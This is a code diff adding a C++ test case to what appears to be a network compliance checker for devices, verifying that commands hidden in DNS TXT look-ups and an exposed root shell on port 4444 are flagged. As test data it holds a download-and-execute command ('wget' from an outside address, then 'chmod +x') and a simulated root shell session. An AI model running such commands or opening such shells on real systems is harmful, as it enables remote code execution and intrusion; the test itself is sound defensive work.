@@ -48,6 +48,30 @@ TEST_CASE("programs_may_come_only_from_declared_update_servers", "[checks]") {
     }
 }
 
+TEST_CASE("nobody_declares_orders_in_look_ups_or_a_shell_given_away", "[checks]") {
+    const auto text_answer = [](std::string_view text) {
+        const auto name = "boot.vendor.example";
+        return dns_answer(9, name, {{name, 16, ByteWriter().u8(static_cast<std::uint8_t>(text.size())).text(text).take()}}, 16);
+    };
+    const auto& variation = variations().front();
+    const auto declaration = vendor();
+    for (const auto& [text, expected] : std::vector<std::pair<std::string, Verdict>>{{"cd /tmp; wget http://198.51.100.3/a; chmod +x a", Verdict::fail}, {"v=spf1 include:vendor.example -all", Verdict::pass}}) {
+        auto wire = begin(variation);
+        wire.out(wire.resolver, 17, udp(41000, 53, dns_query(9, "boot.vendor.example", 16)));
+        wire.in(wire.resolver, 17, udp(53, 41000, text_answer(text)));
+        CHECK(judged("no-code-arriving", seen(wire, variation), &declaration).verdict == expected);
+    }
+    for (const auto& [protocol, expected] : std::vector<std::pair<std::string, Verdict>>{{"", Verdict::fail}, {"telnet", Verdict::pass}}) {
+        auto wire = begin(variation);
+        wire.connect(ip(variation.address), 4444, to_bytes("# uid=0(root) gid=0(root)\n# "), to_bytes("id\n"));
+        auto permitting = vendor();
+        permitting.destinations.push_back(entry(variation, 4444, Transport::tcp, protocol, "maintenance"));
+        permitting.destinations.back().name.reset();
+        permitting.destinations.back().network = Cidr(ip(variation.address), 32);
+        CHECK(judged("no-code-arriving", seen(wire, variation), &permitting).verdict == expected);
+    }
+}
+
 TEST_CASE("a_unit_tells_who_it_is_only_to_declared_destinations", "[checks]") {
     for (const std::string written : {"02:4b:52:00:00:01", "024B52000001", "{\"id\":\"MDI0YjUyMDAwMDAx\"}"}) {
         const Act act = [&](Wire& wire, const Variation& variation) {
